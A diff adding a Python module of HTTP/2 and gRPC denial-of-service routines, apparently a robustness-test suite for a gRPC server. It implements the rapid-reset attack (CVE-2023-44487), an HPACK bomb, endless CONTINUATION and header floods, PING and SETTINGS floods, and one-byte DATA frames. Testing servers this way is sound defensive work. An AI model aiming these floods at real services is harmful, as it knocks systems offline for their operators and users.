@@ -1,0 +1,119 @@
+"""Frames without end."""
+
+import contextlib
+import os
+import struct
+import time
+
+from attack import (
+    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, HELLO, MIB, PING, PREFACE, RST_STREAM, SERVICE,
+    WINDOW_UPDATE, Windows, field, frame, hpack_length, message_prefix, open_call, request_block, settings)
+
+
+def window_updates_past_2_gib(attack):
+    update = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))
+    attack.flood(HELLO + open_call("Accumulate"), frame(0x77, 0, 0, update) * 80_000)
+
+
+def empty_data_past_2_gib(attack):
+    attack.flood(HELLO + open_call("Accumulate"), frame(DATA, 0, 1) * 100_000)
+
+
+def continuation_without_end(attack):
+    tiny = field(b"a", b"b") * 3000
+    attack.flood(HELLO + frame(HEADERS, 0, 1, request_block(SERVICE + "Compute")),
+                 frame(CONTINUATION, 0, 1, tiny[:16000]) * 60)
+
+
+def headers_over_many_frames(attack):
+    """8 MB of headers in frames that are each within the limit; then the call."""
+    large = frame(CONTINUATION, 0, 1, field(b"x-pad", b"p" * 15000)) * 540
+    call = (HELLO + frame(HEADERS, 0, 1, request_block(SERVICE + "Describe")) + large +
+            frame(CONTINUATION, END_HEADERS, 1) + frame(DATA, END_STREAM, 1, message_prefix(0)))
+    while attack.goes_on():
+        with contextlib.suppress(OSError), attack.open() as connection:
+            connection.sendall(call)
+            connection.recv(1 << 16)
+        time.sleep(0.01)
+
+
+def hpack_length_without_end(attack):
+    attack.flood(HELLO + frame(HEADERS, 0, 1, request_block(SERVICE + "Compute") + b"\x00\x7f"),
+                 frame(CONTINUATION, 0, 1, b"\x80" * 16000) * 4, at_once=2)
+
+
+def hpack_string_too_long(attack):
+    attack.flood(HELLO + frame(HEADERS, 0, 1, request_block(SERVICE + "Compute") + b"\x00\x01a" +
+                               hpack_length((1 << 31) - 1)),
+                 frame(CONTINUATION, 0, 1, b"v" * 16000) * 4, at_once=2)
+
+
+def streams_without_acknowledgement(attack):
+    """Never acknowledges SETTINGS, so never learns how many streams it may open."""
+    while attack.goes_on():
+        with contextlib.suppress(OSError), attack.open(HELLO) as connection:
+            stream = 1
+            block = request_block(SERVICE + "Accumulate")
+            while attack.goes_on() and stream < 1 << 30:
+                connection.sendall(b"".join(frame(HEADERS, END_HEADERS, stream + 2 * i, block) for i in range(100)))
+                stream += 200
+        time.sleep(0.01)
+
+
+def rapid_reset(attack):
+    """CVE-2023-44487: calls begun and cancelled as fast as they can be written."""
+    block = request_block(SERVICE + "Compute")
+    while attack.goes_on():
+        with contextlib.suppress(OSError), attack.open(HELLO) as connection:
+            stream = 1
+            while attack.goes_on() and stream < 1 << 30:
+                connection.sendall(b"".join(
+                    frame(HEADERS, END_HEADERS, s, block) + frame(RST_STREAM, 0, s, struct.pack(">I", 8))
+                    for s in range(stream, stream + 400, 2)))
+                stream += 400
+        time.sleep(0.01)
+
+
+def ping_flood(attack):
+    attack.flood(HELLO, frame(PING, 0, 0, bytes(8)) * 4000)
+
+
+def settings_flood(attack):
+    attack.flood(HELLO, settings(window=65535) * 4000)
+
+
+def garbage(attack):
+    while attack.goes_on():
+        with contextlib.suppress(OSError), attack.open() as connection:
+            connection.sendall(PREFACE * (os.urandom(1)[0] % 2) + os.urandom(4000))
+
+
+def hpack_bomb(attack):
+    """One large field in the dynamic table, and a byte for each further copy of it."""
+    value = b"v" * 3900
+    entry = b"\x40" + hpack_length(1) + b"a" + hpack_length(len(value)) + value
+    attack.flood(HELLO + frame(HEADERS, 0, 1, request_block(SERVICE + "Compute") + entry),
+                 frame(CONTINUATION, 0, 1, b"\xbe" * 16000) * 20)
+
+
+def one_byte_data_frames(attack):
+    """A message of 15 MiB in frames of one byte, as fast as the window is opened."""
+    size = 15 * MIB
+
+    def attempt():
+        with attack.open(HELLO + open_call("Compute") + frame(DATA, 0, 1, message_prefix(size))) as connection:
+            windows, sent = Windows(), 0
+            windows.take(1, 5)
+            while attack.goes_on() and sent < size - 1:
+                count = min(windows.left(1), 20_000, size - 1 - sent)
+                connection.sendall(frame(DATA, 0, 1, b"x") * count)
+                windows.take(1, count)
+                sent += count
+                windows.read(connection, 0.0 if count else 1.0)
+    attack.again(attempt)
+
+
+FLOODS = (
+    window_updates_past_2_gib, empty_data_past_2_gib, continuation_without_end, headers_over_many_frames,
+    hpack_length_without_end, hpack_string_too_long, hpack_bomb, streams_without_acknowledgement,
+    one_byte_data_frames, rapid_reset, ping_flood, settings_flood, garbage)
